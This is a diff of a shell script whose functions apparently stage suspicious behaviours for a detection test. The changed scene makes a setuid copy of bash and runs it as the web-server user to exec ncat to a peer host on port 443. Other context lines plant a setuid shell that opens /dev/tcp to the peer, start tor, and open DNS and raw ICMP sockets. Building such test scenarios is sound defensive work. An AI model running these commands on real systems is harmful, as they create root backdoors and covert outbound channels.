@@ -134,7 +134,7 @@ scene_tor_loopback() { put /opt/.t/tor; /opt/.t/tor listen 127.0.0.1 9050 & slee
 # --- rights, channels, loaders, names that lower nothing
 home() { put "$1"; chown -R 1000:1000 /home/dev; }
 scene_setuid_copy_of_bash() { cp /bin/bash /var/tmp/.sh; chmod 4755 /var/tmp/.sh; as 33 /usr/bin/perl -e 'system("/var/tmp/.sh","-p","-c","exec 3<>/dev/tcp/'$PEER'/443; sleep 600; true")'; }
-scene_root_relay_below_www() { cp /usr/bin/env /opt/env; chmod 4755 /opt/env; mv /opt/env /home/dev/env; as 33 /usr/bin/perl -e 'system("/home/dev/env","/usr/bin/perl","-e","\$< = 0; exec q(/usr/bin/ncat), q('$PEER'), 443")'; }
+scene_root_relay_below_www() { cp /bin/bash /opt/rs; chmod 4755 /opt/rs; as 33 /usr/bin/perl -e 'system("/opt/rs","-p","-c","exec /usr/bin/ncat '$PEER' 443")'; }
 scene_dns_to_odd_server() { home /home/dev/bin/upd; as 1000 /home/dev/bin/upd udp $PEER 53; }
 scene_dns_python_script() { mkdir -p /home/dev/w; printf 'import socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.connect(("%s",53))\ntime.sleep(600)\n' $PEER >/home/dev/w/q.py; chown -R 1000:1000 /home/dev; as 1000 /usr/bin/python3 /home/dev/w/q.py; }
 scene_icmp_python() { printf 'import socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_RAW,1)\ntime.sleep(600)\n' >/home/dev/ping.py; chown -R 1000:1000 /home/dev; python3 /home/dev/ping.py; }
